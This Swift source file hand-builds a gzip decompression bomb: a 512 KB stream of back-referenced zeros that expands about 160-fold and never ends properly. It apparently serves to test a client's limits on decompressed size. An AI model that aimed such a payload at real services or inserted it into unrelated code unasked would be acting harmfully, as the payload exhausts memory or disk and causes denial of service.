// A small body that unpacks into a very large one, made by hand: packing gigabytes of zeros would take a minute.

/// A gzip stream of nothing but zeros.
enum GzipBomb {
    /// Bytes on the wire; they unpack to about 160 times as many, twenty times what a client should take.
    static let bytes = 512 * 1024

    /// The stream.
    static let body = made()

    /// The header, one zero, and then copies of 258 bytes each, 13 bits a copy; the stream never ends properly.
    private static func made() -> [UInt8] {
        var result: [UInt8] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]
        var bits = BitWriter()
        // Last block, fixed codes: 1, then 01 with its low bit first; then the literal 0, which is 00110000.
        bits.write([1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0])
        // Length 258 is 11000101, distance 1 is 00000, both with the high bit first.
        let copy: [UInt8] = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0]
        while bits.bytes.count < bytes - result.count { bits.write(copy) }
        result += bits.bytes
        return result
    }

    private struct BitWriter {
        private(set) var bytes: [UInt8] = []
        private var pending: UInt8 = 0
        private var count: UInt8 = 0

        mutating func write(_ bits: [UInt8]) {
            for bit in bits {
                pending |= bit << count
                count += 1
                if count == 8 {
                    bytes.append(pending)
                    pending = 0
                    count = 0
                }
            }
        }
    }
}
